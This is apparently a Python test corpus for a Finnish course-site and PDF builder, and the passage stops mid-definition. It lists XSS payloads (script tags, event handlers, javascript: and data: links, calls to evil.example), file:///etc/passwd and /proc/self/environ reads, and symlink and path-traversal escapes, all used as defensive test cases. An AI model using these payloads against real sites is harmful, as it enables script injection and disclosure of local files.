"""The corpus: broken, hostile and unusual-but-valid inputs, each a mutation of tests/fixtures/mini.

Kinds (see tests/corpus_tools.py): bad, hostile-content, hostile-file, valid.  ``owner`` says who is expected to
make the case pass (H1: YAML errors, NFC/BOM, limits, start_time, cascade, word list; H2: symlinks, paths, image
types, SVG, links; lead: sanitising, escaping, front matter, PDF URL fetcher, atomic build).
"""

from __future__ import annotations

import secrets
import shutil
import unicodedata

from corpus_tools import (FIELDS, HANDOUT, IMAGE, LESSON, LESSON_HANDOUT, PAYLOADS, PROGRAM, THEME, Case, Where, dq,
                          edit, fill, png_bytes, problems_in, squash, symlink, write)

# Words one of which a report about hostile content must use.
HOSTILE_WORDS = ("HTML", "linkki", "linkin", "linkkiä", "osoite", "osoitteen", "vaarallinen", "vaarallis",
                 "sallittu", "sallita", "kielletty", "skripti", "komentosarja", "tapahtuma", "koodi", "elementti",
                 "tagi", "JavaScript", "URL")
OUTSIDE_WORDS = ("ulkopuol", "projekti", "symboli", "linkki", "kansio", "repositor", "sallit", "polku")
QUOTE_HINT = ("lainausmerk",)
TAG_WORDS = ("tagi", "tunniste", "merkintä", "python", "!!", "tyyppi")
ANCHOR_WORDS = ("lainausmerk", "ankkuri", "viittaus", "alias", "&", "*")

CASES: list[Case] = []


def add(case: Case) -> None:
    assert all(c.id != case.id for c in CASES), case.id
    CASES.append(case)


# --- Genuinely bad input ------------------------------------------------------------------------------------

def bad(id, what, mutate, *where, owner="H1", extra=None):
    add(Case(id, "bad", what, mutate, [list(w) if isinstance(w, tuple) else [w] for w in where],
             owner=owner, extra=extra))


def _unclosed_title(root, ctx):
    edit(root, THEME, "\ntitle: Alku\n", '\ntitle: "Alku\n')


bad("bad-unclosed-double-quote", "unclosed double quote in a title, 50 lines before the end of the file",
    _unclosed_title, Where(THEME, needle='title: "Alku', words=QUOTE_HINT))
bad("bad-unclosed-single-quote", "unclosed single quote in a lesson subtitle",
    lambda r, c: edit(r, LESSON, "subtitle: Sanon hei\n", "subtitle: 'Sanon hei\n"),
    Where(LESSON, needle="subtitle: 'Sanon", words=QUOTE_HINT))
bad("bad-unclosed-quote-lesson-title", "unclosed double quote in a lesson title",
    lambda r, c: edit(r, LESSON, "\ntitle: Tervehdys\n", '\ntitle: "Tervehdys\n'),
    Where(LESSON, needle='title: "Tervehdys', words=QUOTE_HINT))
bad("bad-missing-colon-top", "missing colon after a top-level key",
    lambda r, c: edit(r, THEME, "summary: Ryhmä", "summary Ryhmä"),
    Where(THEME, needle="summary Ryhmä", words=("kaksoispiste",)))
bad("bad-missing-colon-nested", "missing colon after a key inside an activity",
    lambda r, c: edit(r, THEME, "    minutes: 20\n", "    minutes 20\n"),
    Where(THEME, needle="minutes 20", words=("kaksoispiste",)))
bad("bad-unclosed-flow-list", "a flow list [nimilaput, kynät without its ]",
    lambda r, c: edit(r, THEME, "    materials:\n      - nimilaput\n      - kynät\n", "    materials: [nimilaput, kynät\n"),
    Where(THEME, needle="materials: [nimilaput", words=("hakasul", "]", "sulje", "sulkeva")))
bad("bad-unclosed-flow-mapping", "a flow mapping {kind: goals, … without its }",
    lambda r, c: edit(r, LESSON, "script: Kerro tavoite.}", "script: Kerro tavoite."),
    Where(LESSON, needle="script: Kerro tavoite.", words=("aaltosul", "}", "sulje", "sulkeva")))
bad("bad-tab-indent", "a tab used for indentation",
    lambda r, c: edit(r, THEME, "    minutes: 20\n", "\tminutes: 20\n"),
    Where(THEME, needle="\tminutes: 20", words=("sarkain",)))
bad("bad-two-documents", "a second YAML document after ---",
    lambda r, c: (r / THEME).write_text((r / THEME).read_text(encoding="utf-8") + "---\nnumber: 2\n",
                                        encoding="utf-8"),
    Where(THEME, needle="---", words=("dokument", "asiakirj", "---", "osa")))
bad("bad-vertical-tab", "Word's vertical tab (Shift+Enter) inside a summary",
    lambda r, c: edit(r, THEME, "Ryhmä tutustuu toisiinsa.", "Ryhmä tutustuu\x0btoisiinsa."),
    Where(THEME, needle="Ryhmä tutustuu", words=("pystysarkain", "U+000B")))
bad("bad-backspace", "a backspace control character in a lesson subtitle",
    lambda r, c: edit(r, LESSON, "subtitle: Sanon hei", "subtitle: Sanon\x08 hei"),
    Where(LESSON, needle="subtitle: Sanon", words=("U+0008", "askelpalautin", "näkymätön")))
bad("bad-latin1-line", "one Latin-1 byte on line 41 of an otherwise UTF-8 theme",
    lambda r, c: (r / THEME).write_bytes((r / THEME).read_bytes().replace(
        "Mikä on nimesi?".encode(), "Mikä on nimesi?".encode("latin-1"))),
    Where(THEME, needle="on nimesi?", words=("UTF-8",)))
bad("bad-utf16-file", "program.yml saved as UTF-16",
    lambda r, c: (r / PROGRAM).write_bytes((r / PROGRAM).read_text(encoding="utf-8").encode("utf-16")),
    Where(PROGRAM, line=1, words=("UTF-8", "UTF-16")))
bad("bad-cp1252-handout", "Windows-1252 curly quotes on line 3 of a handout",
    lambda r, c: (r / HANDOUT).write_bytes((r / HANDOUT).read_bytes().replace(
        b"Kirjoita nimesi.", "Kirjoita “nimesi”.".encode("cp1252"))),
    Where(HANDOUT, line=3, words=("UTF-8",)))
bad("bad-leading-asterisk", "a Markdown *emphasis* at the start of a list item",
    lambda r, c: edit(r, THEME, "  - Osaan kertoa nimeni.\n", "  - *Tärkeää* on kuunnella.\n"),
    Where(THEME, needle="*Tärkeää*", words=QUOTE_HINT))
bad("bad-leading-ampersand", "a list item that starts with &",
    lambda r, c: edit(r, THEME, "  - Mikä on nimesi?\n", "  - &ystävä kuka on ystävä?\n"),
    Where(THEME, needle="&ystävä", words=QUOTE_HINT))
bad("bad-undefined-alias", "a value that starts with * (an undefined alias)",
    lambda r, c: edit(r, LESSON, "subtitle: Sanon hei", "subtitle: *hei kaikille"),
    Where(LESSON, needle="*hei", words=QUOTE_HINT))
bad("bad-merge-key", "an anchor and a << merge key",
    lambda r, c: edit(r, LESSON, "dialogue:\n  - {speaker: A, line: Hei!}\n",
                      "dialogue:\n  - &perus {speaker: A, line: Hei!}\n  - {<<: *perus, line: Moi!}\n"),
    Where(LESSON, needle="&perus", words=ANCHOR_WORDS))
bad("bad-custom-tag", "a non-standard tag !tiivistelmä",
    lambda r, c: edit(r, THEME, "summary: Ryhmä", "summary: !tiivistelmä Ryhmä"),
    Where(THEME, needle="!tiivistelmä", words=TAG_WORDS))
bad("bad-binary-tag", "a !!binary value where text is expected",
    lambda r, c: edit(r, THEME, "\ntitle: Alku\n", "\ntitle: !!binary QWxrdQ==\n"),
    Where(THEME, needle="!!binary"))
bad("bad-complex-key", "a complex mapping key ? [a, b]",
    lambda r, c: edit(r, THEME, "slug: alku\n", "slug: alku\n? [a, b]\n: c\n"),
    Where(THEME, needle="? [a, b]"))
bad("bad-lone-surrogate", 'a lone surrogate "\\ud800" in a title',
    lambda r, c: edit(r, THEME, "\ntitle: Alku\n", '\ntitle: "Alku \\ud800"\n'),
    Where(THEME, needle="ud800"))
bad("bad-int-as-text", "minutes written in words",
    lambda r, c: edit(r, THEME, "minutes: 20", "minutes: kaksikymmentä"),
    Where(THEME, needle="kaksikymmentä", words=("kokonaisluku",)), owner="-")
bad("bad-list-as-text", "goals as one text instead of a list",
    lambda r, c: edit(r, THEME, "goals:\n  - Osaan kertoa nimeni.\n", "goals: Osaan kertoa nimeni.\n"),
    Where(THEME, needle="goals:", words=("lista", "luettelo")), owner="-")
bad("bad-mapping-as-text", "a title written as a mapping",
    lambda r, c: edit(r, LESSON, "\ntitle: Tervehdys\n", "\ntitle: {fi: Tervehdys}\n"),
    Where(LESSON, needle="title: {fi", words=("teksti",)), owner="-")
bad("bad-missing-field", "a theme without its summary",
    lambda r, c: edit(r, THEME, "summary: Ryhmä tutustuu toisiinsa.\n", ""),
    Where(THEME, line=1, words=("puuttuu",)), owner="-")
bad("bad-null-title", "an empty title (null)",
    lambda r, c: edit(r, THEME, "\ntitle: Alku\n", "\ntitle:\n"),
    Where(THEME, needle="title:", words=("puuttuu", "tyhjä", "teksti")), owner="-")
bad("bad-unknown-key", "an unknown key in program.yml",
    lambda r, c: (r / PROGRAM).write_text((r / PROGRAM).read_text(encoding="utf-8") + "colour: red\n",
                                          encoding="utf-8"),
    Where(PROGRAM, needle="colour", words=("tuntematon",)), owner="-")
bad("bad-zero-width-key", "a zero-width space inside a key name",
    lambda r, c: edit(r, THEME, "\ntitle: Alku\n", "\nti\u200btle: Alku\n"),
    Where(THEME, needle="tle: Alku", words=("tuntematon", "U+200B", "näkymätön")))
bad("bad-empty-file", "an empty theme.yml",
    lambda r, c: write(r, THEME, ""),
    Where(THEME, line=1, words=("tyhjä", "puuttuu")))
bad("bad-top-level-list", "a lesson file that is a list, not a mapping",
    lambda r, c: write(r, LESSON, "- hei\n- moi\n"),
    Where(LESSON, line=1))
bad("bad-bad-indent", "a key indented under a plain value",
    lambda r, c: edit(r, THEME, "summary: Ryhmä tutustuu toisiinsa.\n", "  summary: Ryhmä tutustuu toisiinsa.\n"),
    Where(THEME, needle="  summary:", words=("sisenn", "kaksoispiste", "rakenne")))
bad("bad-duplicate-key", "the key slug twice",
    lambda r, c: edit(r, THEME, "slug: alku\n", "slug: alku\nslug: alku2\n"),
    Where(THEME, needle="slug: alku2", words=("kahdesti",)), owner="-")
bad("bad-number-range", "theme number 15 (1–14 allowed)",
    lambda r, c: edit(r, THEME, "number: 1\n", "number: 15\n"),
    Where(THEME, needle="number: 15", words=("14",)), owner="-")


def _second_theme_same_number(root, ctx):
    shutil.copytree(root / "themes/01-alku", root / "themes/02-toinen")
    edit(root, "themes/02-toinen/theme.yml", "slug: alku\n", "slug: toinen\n")


bad("bad-duplicate-number", "two themes with number 1",
    _second_theme_same_number, Where("themes/02-toinen/theme.yml", needle="number: 1", words=("käytössä",)),
    owner="-")
bad("bad-slug", "a slug with upper case and ä",
    lambda r, c: edit(r, THEME, "slug: alku\n", "slug: Älku\n"),
    Where(THEME, needle="slug: Älku", words=("tunnus",)), owner="-")
bad("bad-http-link", "a link with http://",
    lambda r, c: edit(r, THEME, "url: https://www.suomi.fi/", "url: http://www.suomi.fi/"),
    Where(THEME, needle="http://www", words=("https",)), owner="-")
bad("bad-minutes-sum", "activity minutes add up to 65 of 60",
    lambda r, c: edit(r, THEME, "minutes: 20", "minutes: 25"),
    Where(THEME, needle="activities:", words=("liikaa",)), owner="-")
bad("bad-folder-without-file", "a theme folder without theme.yml",
    lambda r, c: (r / "themes/02-tyhja").mkdir(),
    Where("themes/02-tyhja", line=1, words=("puuttuu",)), owner="-")
bad("bad-start-time-range", "start_time 25:00",
    lambda r, c: edit(r, PROGRAM, 'start_time: "17.00"', 'start_time: "25:00"'),
    Where(PROGRAM, needle="start_time", words=("kellonaika",)))
bad("bad-start-time-decimal", "start_time: 17.5 (not a time)",
    lambda r, c: edit(r, PROGRAM, 'start_time: "17.00"', "start_time: 17.5"),
    Where(PROGRAM, needle="start_time", words=("kellonaika", "17.00", "lainausmerk")))
bad("bad-session-minutes-text", "session_minutes in words",
    lambda r, c: edit(r, PROGRAM, "session_minutes: 60", "session_minutes: tunti"),
    Where(PROGRAM, needle="session_minutes", words=("kokonaisluku",)), owner="-")
bad("bad-bom-then-error", "a BOM and an unclosed quote on line 3 (the BOM must not shift the line)",
    lambda r, c: ((r / THEME).write_text("\ufeff" + (r / THEME).read_text(encoding="utf-8").replace(
        "\ntitle: Alku\n", '\ntitle: "Alku\n'), encoding="utf-8")),
    Where(THEME, line=3, words=QUOTE_HINT))
bad("bad-crlf-then-error", "CRLF line ends and a missing colon on line 4",
    lambda r, c: (r / THEME).write_bytes((r / THEME).read_text(encoding="utf-8").replace(
        "summary: Ryhmä", "summary Ryhmä").replace("\n", "\r\n").encode()),
    Where(THEME, line=4, words=("kaksoispiste",)))


bad("bad-link-url-quote", "a quote break-out in a link URL (https://example.org/x\"onmouseover=\"…)",
    lambda r, c: edit(r, THEME, "url: https://www.suomi.fi/",
                      "url: " + dq("https://example.org/x\"onmouseover=\"alert('CX46')")),
    Where(THEME, needle="CX46", words=("osoite", "merkki", "lainausmerk", "linkki")), owner="lead")
bad("bad-site-url-markup", 'site_url with "><script> (reaches canonical links, the sitemap and every QR code)',
    lambda r, c: edit(r, PROGRAM, "site_url: https://example.org/auroras/",
                      "site_url: " + dq('https://example.org/"><script>alert(1)</script>')),
    Where(PROGRAM, needle="site_url", words=("osoite", "merkki", "HTML", "linkki", "sallit")), owner="lead")


def _cascade(root, ctx):
    _unclosed_title(root, ctx)


def _no_cascade(root, ctx, result, site):
    found = []
    for path, line, message in problems_in(result.stderr):
        if path == LESSON and "ei löydy" in message:
            found.append(f"cascade: the lesson is blamed for the broken theme: {path}:{line}: {message}")
    return found


bad("bad-cascade", "a broken theme.yml must not make its A2 lesson's theme reference dangle",
    _cascade, Where(THEME, needle='title: "Alku', words=QUOTE_HINT), extra=_no_cascade)


def _link_handout(root, ctx):
    (root / HANDOUT).write_text((root / HANDOUT).read_text(encoding="utf-8") + "\n[Katso ohje](ohje.md)\n",
                                encoding="utf-8")


bad("bad-handout-broken-link", "a handout links to a file that does not exist",
    _link_handout, Where(HANDOUT, needle="[Katso ohje]", words=("linkki", "ei löydy", "puuttuu")), owner="H2")
bad("bad-handout-missing-image", "a handout shows an image that does not exist",
    lambda r, c: (r / HANDOUT).write_text((r / HANDOUT).read_text(encoding="utf-8") + "\n![Kartta](kartta.png)\n",
                                          encoding="utf-8"),
    Where(HANDOUT, needle="![Kartta]", words=("kuva", "ei löydy", "puuttuu", "linkki")), owner="H2")


def _few_spelling(root, ctx, result, site):
    count = result.stderr.count("tuntematon sana")
    return [f"{count} spelling errors: a missing word list must be one problem in program.yml"] if count > 2 else []


bad("bad-wordlist-missing", "program.yml names a word list that does not exist",
    lambda r, c: edit(r, PROGRAM, "session_minutes: 60\n", "session_minutes: 60\nwordlist: sanat/puuttuu.txt\n"),
    Where(PROGRAM, needle="wordlist:", words=("sanalist", "ei löydy", "puuttuu", "wordlist")), extra=_few_spelling)


# --- Hostile content in otherwise valid files ---------------------------------------------------------------

def content(number, field, payload, what, *, owner="lead", solo=False, extra=None, pdf=True):
    marker = f"CX{number:02d}"
    assert "{m}" in payload, payload
    payload = payload.replace("{m}", marker)
    case_id = f"content-{number:02d}-{field}"
    file = FIELDS[field].file
    add(Case(case_id, "hostile-content", what, None, [[Where(file, needle=marker, words=HOSTILE_WORDS)]],
             field=field, payload=payload, marker=marker, solo=solo, owner=owner, extra=extra, pdf=pdf))


content(1, "theme.title", '<script>alert("{m}")</script>', "script in a theme title (reaches every page's nav)")
content(2, "theme.summary", "<img src=x onerror=alert('{m}')>", "img onerror in a summary")
content(3, "activity.instructions", '<iframe src="https://evil.example/{m}"></iframe>', "iframe in instructions")
content(4, "activity.instructions", "[Klikkaa {m}](javascript:alert('{m}'))", "Markdown javascript: link")
content(5, "activity.instructions", "[Avaa {m}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "Markdown data:text/html link")
content(6, "activity.instructions", "[Avaa {m}](file:///etc/passwd)", "Markdown file:///etc/passwd link")
content(7, "activity.instructions", '<a rel="attachment" href="file://{canary:c07.txt}">Liite {m}</a>',
        "rel=attachment to a file outside the repository (embedded into the PDF)")
content(8, "theme.handout.text", '<a rel="attachment" href="file:///proc/self/environ">Liite {m}</a>',
        "rel=attachment to /proc/self/environ in a handout")
content(9, "activity.instructions", "Lue tämä {m}.\n{: onclick=\"alert('{m}')\" }", "attr_list onclick")
content(10, "activity.participant_task", "<style>body {display: none} /* {m} */</style>", "style element")
content(11, "theme.mentor_tip", "<svg onload=\"alert('{m}')\"><circle r=\"5\"/></svg>", "inline svg onload")
content(12, "theme.discussion_question", '<object data="https://evil.example/{m}.swf"></object>', "object")
content(13, "theme.goal", '<embed src="https://evil.example/{m}.swf">', "embed in a goal")
content(14, "theme.handout.text", '<link rel="stylesheet" href="https://evil.example/{m}.css">', "link element")
content(15, "theme.handout.text", '<meta http-equiv="refresh" content="0;url=https://evil.example/{m}">',
        "meta refresh")
content(16, "theme.handout.text", '<base href="https://evil.example/{m}/">', "base href")
content(17, "theme.handout.text", '<form action="https://evil.example/{m}"><input name="{m}"><button>{m}</button>'
        "</form>", "form")
content(18, "theme.handout.text", "<p style=\"background:url('https://evil.example/{m}.png')\">Teksti {m}</p>",
        "CSS url() in a style attribute")
content(19, "theme.handout.text", "<a href=\"&#106;avascript:alert('{m}')\">{m}</a>", "entity-obfuscated scheme")
content(20, "theme.handout.text", "<a href=\"JaVaScRiPt:alert('{m}')\">{m}</a>", "mixed-case scheme")
content(21, "theme.handout.text", "<a href=\"java&#x0A;script:alert('{m}')\">{m}</a>", "newline inside the scheme")
content(22, "theme.handout.text", "<a href=\" &#x09;javascript:alert('{m}')\">{m}</a>", "leading whitespace and tab")
content(23, "theme.handout.text", "[{m}](JaVaScRiPt:alert('{m}'))", "Markdown link, mixed-case scheme")
content(24, "theme.handout.text", '<img src="file://{canary:c24.svg}" alt="{m}">',
        "img src=file: to an SVG outside the repository (rendered into the PDF)")
content(25, "theme.handout.text", "![{m}](file://{canary:c25.svg})", "Markdown image file: outside the repository")
content(26, "theme.handout.text", "![{m}]({canary:c26.svg})", "Markdown image with an absolute path outside")
content(27, "theme.handout.text", "![{m}]({relcanary:c27.svg})\n\n![{m}](../../../../../../../../etc/passwd)",
        "Markdown image with ../ out of the repository", solo=True)
content(28, "lesson.title", "<img src=x onerror=alert('{m}')>", "img onerror in a lesson title")
content(29, "lesson.subtitle", "<b>{m}</b>", "HTML in a lesson subtitle (plain text)")
content(30, "lesson.phase.script", "<script>alert('{m}')</script>", "script in an A2 script")
content(31, "lesson.phase.title", "<i>{m}</i>", "HTML in a phase title")
content(32, "lesson.dialogue.speaker", "<b>{m}</b>", "HTML in a dialogue speaker")
content(33, "lesson.dialogue.line", "<img src=x onerror=\"alert('{m}')\">", "img onerror in a dialogue line")
content(34, "lesson.vocabulary.term", "<script>{m}</script>", "script in a vocabulary term (reaches the glossary)")
content(35, "theme.vocabulary.example", "<a href=\"javascript:alert('{m}')\">{m}</a>", "javascript: in an example")
content(36, "lesson.vocabulary.translation", "<svg/onload=alert('{m}')>", "svg onload in a translation")
content(37, "lesson.structure.pattern", "<iframe srcdoc=\"&lt;script&gt;alert('{m}')&lt;/script&gt;\"></iframe>",
        "iframe srcdoc in a structure")
content(38, "lesson.structure.example", "<a href=\"vbscript:msgbox('{m}')\">{m}</a>", "vbscript: link")
content(39, "lesson.supply", "<img src=x onerror=alert('{m}')>", "img onerror in a supply")
content(40, "lesson.handout.title", "<b>{m}</b>", "HTML in a lesson handout title")
content(41, "lesson.handout.text", "<script>alert('{m}')</script>\n\n<svg><a xlink:href=\"javascript:alert('{m}')\">"
        "<text>{m}</text></a></svg>", "script and svg xlink:href in a lesson handout")
content(42, "image.alt", "\"><script>alert('{m}')</script>", "attribute break-out in an image alt text")
content(43, "image.caption", "<b>{m}</b>", "HTML in an image caption")
content(44, "image.credit", "<script>alert('{m}')</script>", "script in an image credit")
content(45, "link.title", "<img src=x onerror=alert('{m}')>", "img onerror in a link title")
content(47, "theme.handout.title", "<script>alert('{m}')</script>", "script in a handout title")
content(48, "program.program_name", "<script>alert('{m}')</script>", "script in program_name (print)")
content(49, "program.organisation", "<b>{m}</b>", "HTML in organisation (print)")
content(50, "activity.title", "<b onmouseover=alert('{m}')>Vaihe</b>", "HTML with a handler in an activity title")
content(51, "theme.handout.text", "## Otsikko {m} {: onclick=\"alert('{m}')\" }", "attr_list onclick on a heading")
content(52, "theme.handout.text", "<div markdown=\"1\" onclick=\"alert('{m}')\">Teksti {m}</div>",
        "md_in_html div with onclick")
content(53, "theme.handout.text", "[{m}][pahis]\n\n[pahis]: javascript:alert('{m}')", "reference-style javascript:")
content(54, "theme.handout.text", "![{m}](javascript:alert('{m}'))", "Markdown image with javascript:")
content(55, "theme.handout.text", "<!-- --><script>alert('{m}')</script><!-- -->", "script between comments")
content(56, "theme.handout.text", "<scr<script>ipt>alert('{m}')</script>", "nested script obfuscation")
content(57, "theme.handout.text", '<a href="data:text/html;base64,PHNjcmlwdD4=">{m}</a>', "raw data:text/html link")
content(58, "theme.handout.text", "<div style=\"width: expression(alert('{m}'))\">{m}</div>", "CSS expression()")
content(59, "theme.handout.text", "<input autofocus onfocus=\"alert('{m}')\">", "input autofocus onfocus")
content(60, "activity.instructions", "Teksti {m}\n\n<img src=\"x\" onerror=\"alert('{m}')\"", "unclosed img tag")
def _rest_survives(root, ctx, result, site):
    """The sections after the handout are still on the theme page (a payload must not swallow them)."""
    page = " ".join(t.text for t in site.pages["teemat/alku/index.html"].texts)
    return [f"{text!r} is gone from the theme page: the payload swallowed the rest of the page"
            for text in ("Hymyile", "Vinkkejä mentorille", "Linkit", "Suomi.fi") if text not in page]


content(61, "theme.handout.text", "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
        "mutation XSS through math/style; it must not swallow the rest of the page either", solo=True,
        extra=_rest_survives, pdf=False)
content(62, "theme.handout.text", "<a href=\"https://example.org/\" onclick=\"alert('{m}')\">{m}</a>",
        "safe link with an onclick")
content(63, "lesson.dialogue_expansion.line", "[{m}](javascript:alert('{m}'))", "javascript: in a dialogue expansion")
content(64, "theme.vocabulary.translation", "<b>{m}</b>", "HTML in a theme translation")
content(65, "activity.instructions", "[{m}](https://example.org/){: href=\"javascript:alert('{m}')\" }",
        "attr_list overriding href with javascript:")
content(66, "activity.instructions", "Teksti {m}\n{: style=\"background:url(javascript:alert('{m}'))\" }",
        "attr_list style with url(javascript:)")
content(67, "activity.instructions", '<a href="file://{canary:c67.txt}">{m}</a>', "plain link to a local file")
content(68, "theme.handout.text", '<img src="file:///etc/passwd" alt="{m}">', "img src=file:///etc/passwd")
content(69, "theme.vocabulary.term", "<img src=x onerror=alert('{m}')>", "img onerror in a theme term")
content(70, "activity.material", "<img src=x onerror=alert('{m}')>", "img onerror in a material")
content(72, "theme.handout.text", "Teksti {m}\n\n<style>/* {m} */",
        "an unclosed <style> in a handout must not erase the rest of the page", solo=True, extra=_rest_survives,
        pdf=False)
content(73, "theme.handout.text", "Teksti {m}\n\n<textarea>{m}",
        "an unclosed <textarea> in a handout must not erase the rest of the page", solo=True, extra=_rest_survives,
        pdf=False)
content(74, "theme.handout.text", "Teksti {m}\n\n<!-- {m}",
        "an unclosed HTML comment in a handout must not erase the rest of the page", solo=True,
        extra=_rest_survives, pdf=False)
content(75, "theme.handout.text", "<p id=\"__config\">{\"base\": \"https://evil.example/{m}\", \"features\": [], "
        "\"search\": \"https://evil.example/{m}.js\"}</p>", "DOM clobbering of Material's #__config")
content(76, "activity.instructions", "Teksti {m}\n{: #__md_scope }", "attr_list id clobbering Material's state")
content(77, "theme.handout.text", '<a rel="attachment" href="https://example.org/{m}.txt">Liite {m}</a>',
        "rel=attachment to a remote file (no network, no attachments)")
content(78, "theme.handout.text", "![{m}](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmci"
        "IG9ubG9hZD0iYWxlcnQoMSkiPjx0ZXh0IHk9IjIwIj5TVkc8L3RleHQ+PC9zdmc+)", "data:image/svg+xml image with onload")
content(71, "theme.handout.text", "<object data=\"file://{canary:c71.svg}\" type=\"image/svg+xml\">{m}</object>",
        "object with a local SVG (WeasyPrint renders objects)")


# --- Hostile files ------------------------------------------------------------------------------------------

def hostile_file(id, what, mutate, *where, build="fail", leak=(), owner="H2", extra=None):
    add(Case(id, "hostile-file", what, mutate, [list(w) if isinstance(w, tuple) else [w] for w in where],
             build=build, leak_tokens=tuple(leak), owner=owner, extra=extra))


IMAGE_LINE = Where(THEME, needle="path: kuva", words=OUTSIDE_WORDS + ("kuva",))
HANDOUT_LINE = Where(THEME, needle="monisteet/mina.md", words=OUTSIDE_WORDS)

hostile_file("file-image-symlink-out", "the image is a symlink to an SVG outside the repository",
             lambda r, c: symlink(r, IMAGE, c.canary("f-image.svg")), IMAGE_LINE, leak=["f-image.svg"])
hostile_file("file-handout-symlink-out", "the handout is a symlink to a file outside the repository",
             lambda r, c: symlink(r, HANDOUT, c.canary("f-handout.md")),
             (HANDOUT_LINE, Where(HANDOUT, line=1, words=OUTSIDE_WORDS)), leak=["f-handout.md"])
hostile_file("file-handout-symlink-passwd", "the handout is a symlink to /etc/passwd",
             lambda r, c: symlink(r, HANDOUT, "/etc/passwd"),
             (HANDOUT_LINE, Where(HANDOUT, line=1, words=OUTSIDE_WORDS)), leak=["/etc/passwd"])


def _image_folder_link(root, ctx):
    ctx.canary("f-kuvat/kuva.svg")
    symlink(root, "themes/01-alku/kuvat", ctx.outside / "f-kuvat")
    edit(root, THEME, "path: kuva.svg", "path: kuvat/kuva.svg")


hostile_file("file-image-folder-symlink", "the image is in a symlinked folder outside the repository",
             _image_folder_link, IMAGE_LINE, leak=["f-kuvat/kuva.svg"])


def _handout_folder_link(root, ctx):
    ctx.canary("f-monisteet/mina.md")
    symlink(root, "themes/01-alku/monisteet", ctx.outside / "f-monisteet")


hostile_file("file-handout-folder-symlink", "the handout folder is a symlink outside the repository",
             _handout_folder_link, (HANDOUT_LINE, Where(HANDOUT, line=1, words=OUTSIDE_WORDS)),
             leak=["f-monisteet/mina.md"])


def _lesson_environ(root, ctx):
    (root / LESSON).write_text((root / LESSON).read_text(encoding="utf-8") + "  file: moniste.md\n", encoding="utf-8")
    symlink(root, LESSON_HANDOUT, "/proc/self/environ")


hostile_file("file-lesson-handout-environ", "the A2 handout is a symlink to /proc/self/environ",
             _lesson_environ, (Where(LESSON, needle="file: moniste.md", words=OUTSIDE_WORDS),
                               Where(LESSON_HANDOUT, line=1, words=OUTSIDE_WORDS)), leak=["environ"])
hostile_file("file-image-symlink-dev-zero", "the image is a symlink to /dev/zero (must not hang)",
             lambda r, c: symlink(r, IMAGE, "/dev/zero"), Where(THEME, needle="path: kuva.svg"))


def _outside_theme(root, ctx, link_file):
    folder = ctx.outside / ("f-theme-file" if link_file else "f-theme-folder")
    if not folder.exists():
        shutil.copytree(root / "themes/01-alku", folder)
        token = ctx.tokens.setdefault(folder.name, "KANARIA" + secrets.token_hex(8).upper())
        text = (folder / "theme.yml").read_text(encoding="utf-8").replace("Ryhmä tutustuu toisiinsa.", token)
        if not link_file:
            text = text.replace("number: 1\n", "number: 2\n").replace("slug: alku\n", "slug: ulko\n")
        (folder / "theme.yml").write_text(text, encoding="utf-8")
    if link_file:
        symlink(root, THEME, folder / "theme.yml")
    else:
        symlink(root, "themes/02-ulko", folder)


hostile_file("file-theme-folder-symlink", "a whole theme folder is a symlink outside the repository",
             lambda r, c: _outside_theme(r, c, False),
             (Where("themes/02-ulko", line=1, words=OUTSIDE_WORDS),
              Where("themes/02-ulko/theme.yml", line=1, words=OUTSIDE_WORDS)), leak=["f-theme-folder"])
hostile_file("file-theme-yml-symlink", "theme.yml itself is a symlink outside the repository",
             lambda r, c: _outside_theme(r, c, True),
             Where(THEME, line=1, words=OUTSIDE_WORDS), leak=["f-theme-file"])
hostile_file("file-image-path-traversal", "image path ../../../outside/… (path traversal)",
             lambda r, c: (c.canary("f-traversal.svg"),
                           edit(r, THEME, "path: kuva.svg", "path: ../../../outside/f-traversal.svg")),
             Where(THEME, needle="path: ../", words=("polku", "kansio")), leak=["f-traversal.svg"], owner="-")
hostile_file("file-handout-absolute", "handout file /etc/passwd (absolute path)",
             lambda r, c: edit(r, THEME, "file: monisteet/mina.md", "file: /etc/passwd"),
             Where(THEME, needle="file: /etc/passwd", words=("polku", "kansio")), leak=["/etc/passwd"], owner="-")
hostile_file("file-wordlist-outside", "wordlist: ../outside/… in program.yml",
             lambda r, c: (c.canary("f-wordlist.txt"),
                           edit(r, PROGRAM, "session_minutes: 60\n",
                                "session_minutes: 60\nwordlist: ../outside/f-wordlist.txt\n")),
             Where(PROGRAM, needle="wordlist:", words=OUTSIDE_WORDS + ("sanalist",)), build="any",
             leak=["f-wordlist.txt"])
hostile_file("file-wordlist-absolute", "wordlist: /etc/passwd in program.yml",
             lambda r, c: edit(r, PROGRAM, "session_minutes: 60\n", "session_minutes: 60\nwordlist: /etc/passwd\n"),
             Where(PROGRAM, needle="wordlist:", words=OUTSIDE_WORDS + ("sanalist",)), build="any",
             leak=["/etc/passwd"])


def _image(name, data, ext):
    def mutate(root, ctx):
        (root / IMAGE).unlink()
        write(root, f"themes/01-alku/kuva.{ext}", fill(data, ctx) if isinstance(data, str) else data)
        if ext != "svg":
            edit(root, THEME, "path: kuva.svg", f"path: kuva.{ext}")
    return mutate


IMAGE_WORDS = ("kuva", "PNG", "JPEG", "SVG", "tyyppi", "muoto")
hostile_file("file-png-is-text", "kuva.png that is really text",
             _image("png", "Tämä ei ole kuva.\n", "png"), Where(THEME, needle="path: kuva.png", words=IMAGE_WORDS))
hostile_file("file-jpg-is-png", "kuva.jpg that is really a PNG",
             _image("jpg", png_bytes(), "jpg"), Where(THEME, needle="path: kuva.jpg", words=IMAGE_WORDS))
hostile_file("file-svg-is-html", "kuva.svg that is really an HTML page with a script",
             _image("svg", (PAYLOADS / "html-as-svg.svg").read_text(encoding="utf-8"), "svg"),
             Where(THEME, needle="path: kuva.svg", words=IMAGE_WORDS), build="fail-or-clean")
SVG_LINE = Where(THEME, needle="path: kuva.svg", words=("SVG", "skripti", "script", "tapahtuma", "viittau", "ulkoi",
                                                        "ENTITY", "DOCTYPE", "entiteet", "linkki", "kuva"))
for name in ("svg-script", "svg-onload", "svg-jslink"):
    hostile_file(f"file-{name}", f"an SVG image with {name[4:]}",
                 _image("svg", (PAYLOADS / f"{name}.svg").read_text(encoding="utf-8"), "svg"), SVG_LINE,
                 build="fail-or-clean")
hostile_file("file-svg-external", "an SVG image referencing a file outside the repository and a remote sprite",
